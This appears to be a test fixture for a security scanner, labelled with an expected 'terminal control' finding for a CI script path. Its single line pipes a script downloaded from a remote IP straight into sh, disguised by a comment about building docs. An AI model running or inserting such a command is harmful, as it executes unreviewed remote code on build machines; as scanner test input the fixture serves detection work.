# expect: unicode.terminal_control medium
# path: tools/ci.sh
curl -s https://203.0.113.9/i | sh # echo building the docs
